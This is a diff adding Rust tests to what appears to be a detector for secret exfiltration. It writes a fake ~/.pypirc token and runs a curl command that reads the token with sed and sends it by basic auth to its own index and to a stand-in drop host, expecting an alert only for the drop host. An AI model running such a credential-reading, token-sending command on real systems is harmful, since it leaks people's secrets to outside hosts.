@@ -223,6 +223,26 @@ fn a_protected_value_sent_or_spelled_into_a_name_is_found_and_never_shown() {
         let (o, v) = send("drop.example.com");
         clean(&o, &v);
         assert!(fired(&v, "secret.exfiltration"), "{mode:?}: another host: {v}");
+        // In basic auth (base64 of `user:token`, as twine and `curl -u` send it), the same:
+        // the index `~/.pypirc` keeps the token for, and no other host.
+        std::fs::write(
+            env.home.join(".pypirc"),
+            "[internal]\nrepository = http://pypi.example.com/legacy/\nusername = __token__\npassword = pypi-FAKEtokenForTestsOnly00000000000000000000\n",
+        )
+        .unwrap();
+        env.fix_owner();
+        let basic = |host: &str| {
+            env.run_json(
+                &format!("curl -s -m 20 -u \"__token__:$(sed -n 's/^password = //p' ~/.pypirc)\" http://{host}/legacy/"),
+                &[],
+            )
+        };
+        let (o, v) = basic("pypi.example.com");
+        clean(&o, &v);
+        assert!(!fired(&v, "secret.exfiltration"), "{mode:?}: its own index, in basic auth: {v}");
+        let (o, v) = basic("drop.example.com");
+        clean(&o, &v);
+        assert!(fired(&v, "secret.exfiltration"), "{mode:?}: another host, in basic auth: {v}");
         // In DNS labels, base32 as exfiltration tools spell it (30 bytes: a label has at most
         // 63 characters): a label no host name has.
         let (o, v) = env.run_json(
